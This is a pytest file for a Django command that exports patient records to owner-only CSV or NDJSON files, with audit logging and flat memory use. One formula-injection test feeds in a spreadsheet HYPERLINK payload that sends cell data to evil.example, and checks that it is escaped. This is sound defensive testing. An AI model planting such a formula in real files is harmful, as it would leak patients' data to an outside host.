"""`manage.py export_patients`: every patient, as the API shows them, in a CSV or NDJSON file
readable by its owner only, in constant memory, each chunk in the access audit."""

import csv
import io
import json
import os
import tracemalloc
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from audit.models import AccessRecord, AccessRecordPatient, Action
from exports.services import patients_export_file
from patients.models import Patient
from patients.services import patient_delete, patients_seed_demo
from patients.tests.factories import PatientFactory

pytestmark = pytest.mark.django_db

COLUMNS = [
    "id",
    "name",
    "phone",
    "email",
    "preferred_channel",
    "sms_opt_out",
    "email_opt_out",
    "birth_date",
    "version",
    "created_at",
    "updated_at",
]


def export(*args: str, progress: bool = False) -> tuple[str, str]:
    """Run the command; its stdout and stderr."""
    out, err = io.StringIO(), io.StringIO()
    call_command(
        "export_patients", *args, *([] if progress else ["--no-progress"]), stdout=out, stderr=err
    )
    return out.getvalue(), err.getvalue()


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def exports_recorded() -> list[AccessRecord]:
    return list(AccessRecord.objects.filter(action=Action.PATIENT_EXPORT).order_by("id"))


def ids_named(record: AccessRecord) -> list[str]:
    return [
        str(patient_id)
        for patient_id in AccessRecordPatient.objects.filter(record=record).values_list(
            "patient_id", flat=True
        )
    ]


@pytest.fixture
def patients():
    """A few patients the API shows in all their forms: names in other scripts, a birth date
    and none, each opt-out, each channel."""
    made = [
        PatientFactory(name="Zoë Ångström-Núñez", birth_date=date(1984, 2, 29)),
        PatientFactory(name="李小龙", birth_date=None, sms_opted_out=True, prefers_email=True),
        PatientFactory(name='Ann "Nan" O\'Brien, Jr.', email_opted_out=True),
    ]
    return in_this_order(made)


def in_this_order(patients: list[Patient]) -> list[Patient]:
    """The patients, a second apart in creation: the files' order, whatever the clock."""
    start = datetime(2026, 1, 1, tzinfo=UTC)
    for n, patient in enumerate(patients):
        patient.created_at = start + timedelta(seconds=n)
        Patient.objects.filter(pk=patient.pk).update(created_at=patient.created_at)
    return patients


def as_csv(value) -> str:
    """What a CSV cell holds for a value of the API's JSON."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def api_shows(client, patient: Patient) -> dict:
    return client.get(f"/patients/{patient.pk}").json()


def test_ndjson_lines_are_the_patients_as_the_api_shows_them(carol, patients, tmp_path):
    dest = tmp_path / "patients.ndjson"

    stdout, _ = export("--format", "ndjson", "--output", str(dest))

    lines = dest.read_text(encoding="utf-8").splitlines()
    rows = [json.loads(line) for line in lines]
    expected = [api_shows(carol, patient) for patient in patients]
    assert rows == expected
    assert list(expected[0]) == COLUMNS
    assert [list(row) for row in rows] == [COLUMNS] * 3  # the API's keys, in its order
    assert rows[1]["birth_date"] is None
    assert "李小龙" in lines[1]  # UTF-8 as it is, not \u escapes
    assert stdout == f"Exported 3 patient(s) to {dest}.\n"


def test_csv_rows_are_the_patients_as_the_api_shows_them(carol, patients, tmp_path):
    dest = tmp_path / "patients.csv"

    export("--format", "csv", "--output", str(dest))

    header, *rows = csv_rows(dest)
    assert header == COLUMNS
    expected = []
    for patient in patients:
        shown = api_shows(carol, patient)
        shown["phone"] = "'" + shown["phone"]  # +1555…, escaped as a formula would be
        expected.append([as_csv(value) for value in shown.values()])
    assert rows == expected
    assert rows[0][COLUMNS.index("birth_date")] == "1984-02-29"
    assert rows[1][COLUMNS.index("birth_date")] == ""
    assert rows[1][COLUMNS.index("sms_opt_out")] == "true"
    assert dest.read_bytes().startswith(b"id,name,phone,")  # no byte-order mark


def test_csv_cells_that_start_a_formula_are_escaped(tmp_path):
    names = {
        '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1 Plus": "'+1 Plus",
        "-x Minus": "'-x Minus",
        "@x At": "'@x At",
        # Not a name the API accepts; a row written around it is escaped all the same.
        "\tTab": "'\tTab",
        "\rReturn": "'\rReturn",
        # Quotes before a formula get one more, so that dropping one gives the name back.
        "'=x Quoted": "''=x Quoted",
        "O'Brien": "O'Brien",
        "Ann Lee": "Ann Lee",
    }  # fmt: skip
    in_this_order([PatientFactory(name=name) for name in names])
    dest = tmp_path / "patients.csv"

    export("--format", "csv", "--output", str(dest))

    header, *rows = csv_rows(dest)
    name, phone = header.index("name"), header.index("phone")
    assert [row[name] for row in rows] == list(names.values())
    assert all(row[phone].startswith("'+1555") for row in rows)


def test_ndjson_values_are_never_escaped(tmp_path):
    patient = PatientFactory(name="=1+1 Sum")
    dest = tmp_path / "patients.ndjson"

    export("--format", "ndjson", "--output", str(dest))

    row = json.loads(dest.read_text(encoding="utf-8"))
    assert (row["name"], row["phone"]) == ("=1+1 Sum", patient.phone)


@pytest.mark.parametrize("file_format", ["csv", "ndjson"])
def test_the_file_is_readable_by_its_owner_only_whatever_the_umask(patients, tmp_path, file_format):
    dest = tmp_path / f"patients.{file_format}"
    umask = os.umask(0)
    try:
        export("--format", file_format, "--output", str(dest))
    finally:
        os.umask(umask)

    assert dest.stat().st_mode & 0o777 == 0o600
    assert sorted(path.name for path in tmp_path.iterdir()) == [dest.name]  # no partial left


def test_an_existing_output_is_refused_untouched_and_the_attempt_recorded(patients, tmp_path):
    dest = tmp_path / "patients.csv"
    dest.write_text("yesterday's export")

    with pytest.raises(CommandError, match=r"patients\.csv exists: give a new file, or --force"):
        export("--format", "csv", "--output", str(dest))

    assert dest.read_text() == "yesterday's export"
    assert sorted(path.name for path in tmp_path.iterdir()) == [dest.name]
    [record] = exports_recorded()
    assert (record.status, ids_named(record)) == (1, [])


def test_force_replaces_an_existing_output(patients, tmp_path):
    dest = tmp_path / "patients.ndjson"
    dest.write_text("yesterday's export")
    dest.chmod(0o644)

    export("--format", "ndjson", "--output", str(dest), "--force")

    assert len(dest.read_text(encoding="utf-8").splitlines()) == 3
    assert dest.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    ("where", "message"),
    [("no-such-folder/patients.csv", "there is no folder"), (".", "is a folder")],
)
def test_an_output_that_cannot_be_a_file_is_one_line_and_leaves_nothing(tmp_path, where, message):
    with pytest.raises(CommandError, match=message):
        export("--format", "csv", "--output", str(tmp_path / where), "--force")
    assert list(tmp_path.iterdir()) == []


def test_each_chunk_is_recorded_naming_the_patients_it_exported(settings, tmp_path):
    settings.EXPORT_CHUNK_SIZE = 2
    exported = {str(patient.pk) for patient in PatientFactory.create_batch(5)}

    export("--format", "ndjson", "--output", str(tmp_path / "patients.ndjson"))

    records = exports_recorded()
    assert [(r.via, r.path, r.status, r.user) for r in records] == [
        ("command", "export_patients", 0, None)
    ] * 3
    named = [ids_named(record) for record in records]
    assert [len(ids) for ids in named] == [2, 2, 1]
    assert {patient_id for ids in named for patient_id in ids} == exported


def test_an_export_stopped_midway_leaves_no_file_and_records_the_attempt(settings, tmp_path):
    settings.EXPORT_CHUNK_SIZE = 2
    PatientFactory.create_batch(5)
    dest = tmp_path / "patients.csv"

    def ctrl_c(rows: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        patients_export_file(dest=dest, file_format="csv", progress=ctrl_c)

    assert list(tmp_path.iterdir()) == []
    assert [(r.status, len(ids_named(r))) for r in exports_recorded()] == [(0, 2), (1, 0)]


def test_progress_goes_to_stderr_and_never_into_the_file(patients, tmp_path):
    dest = tmp_path / "patients.ndjson"

    stdout, stderr = export("--format", "ndjson", "--output", str(dest), progress=True)

    assert "100%" in stderr
    assert "3.00/3.00" in stderr  # tqdm scales: 1.00M/1.00M for a million
    assert "patients" in stderr
    assert stdout == f"Exported 3 patient(s) to {dest}.\n"
    assert all(json.loads(line) for line in dest.read_text(encoding="utf-8").splitlines())


def test_no_progress_writes_nothing_to_stderr(patients, tmp_path):
    _, stderr = export("--format", "csv", "--output", str(tmp_path / "patients.csv"))

    assert stderr == ""


def test_an_empty_database_gives_a_header_only_csv_and_an_empty_ndjson(tmp_path):
    stdout, _ = export("--format", "csv", "--output", str(tmp_path / "patients.csv"))
    export("--format", "ndjson", "--output", str(tmp_path / "patients.ndjson"))

    assert (tmp_path / "patients.csv").read_bytes() == (",".join(COLUMNS) + "\r\n").encode()
    assert (tmp_path / "patients.ndjson").read_bytes() == b""
    assert stdout == f"Exported 0 patient(s) to {tmp_path / 'patients.csv'}.\n"
    assert exports_recorded() == []  # no patient was read


def test_deleted_patients_are_not_exported(patients, tmp_path):
    patient_delete(patient=patients[0])
    dest = tmp_path / "patients.ndjson"

    export("--format", "ndjson", "--output", str(dest))

    ids = [json.loads(line)["id"] for line in dest.read_text(encoding="utf-8").splitlines()]
    assert ids == [str(patients[1].pk), str(patients[2].pk)]


def test_since_exports_only_patients_changed_at_or_after_it(patients, tmp_path):
    instant = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
    for patient, updated_at in zip(
        patients,
        [instant - timedelta(microseconds=1), instant, instant + timedelta(days=1)],
        strict=True,
    ):
        Patient.objects.filter(pk=patient.pk).update(updated_at=updated_at)
    dest = tmp_path / "patients.ndjson"

    stdout, stderr = export(
        "--format", "ndjson", "--output", str(dest), "--since", "2026-03-01T13:00:00+01:00",
        progress=True,
    )  # fmt: skip

    ids = [json.loads(line)["id"] for line in dest.read_text(encoding="utf-8").splitlines()]
    assert ids == [str(patients[1].pk), str(patients[2].pk)]
    assert "2.00/2.00" in stderr  # the count is of the patients since then
    assert stdout.startswith("Exported 2 patient(s)")


@pytest.mark.parametrize("since", ["2026-03-01T12:00:00", "yesterday", "2026-13-01"])
def test_since_must_be_an_instant_with_its_offset(tmp_path, since):
    with pytest.raises(CommandError, match="ISO 8601 instant with its offset"):
        export("--format", "csv", "--output", str(tmp_path / "p.csv"), "--since", since)
    assert list(tmp_path.iterdir()) == []


def test_memory_stays_flat_however_many_patients(settings, tmp_path):
    # Small chunks, so that rows held beyond their chunk would soon outweigh the rest.
    settings.EXPORT_CHUNK_SIZE = 100

    def peaks(count: int) -> dict[str, int]:
        patients_seed_demo(count=count)  # tops up to `count`
        found = {}
        for file_format in ("csv", "ndjson"):
            tracemalloc.start()
            try:
                export(
                    "--format", file_format, "--output", str(tmp_path / f"{count}.{file_format}")
                )
                found[file_format] = tracemalloc.get_traced_memory()[1]
            finally:
                tracemalloc.stop()
        return found

    peaks(100)  # imports and caches, made once, are not what is measured
    small = peaks(1_000)
    large = peaks(10_000)

    # Ten times the rows: all of them in memory would be about ten times the peak (10 MB
    # against 1 MB when this was written; 0.5 MB against 0.4 MB in chunks).
    for file_format in ("csv", "ndjson"):
        assert large[file_format] < 2 * small[file_format] + 500_000, (file_format, small, large)
    with (tmp_path / "10000.csv").open(encoding="utf-8", newline="") as file:
        assert sum(1 for _ in file) == 1 + 10_000


def test_the_output_file_must_be_named(patients):
    # No default and no stdout: patient data goes only where the operator says.
    with pytest.raises(CommandError, match="the following arguments are required: --output"):
        export("--format", "csv")
    assert not AccessRecord.objects.filter(action=Action.PATIENT_EXPORT).exists()
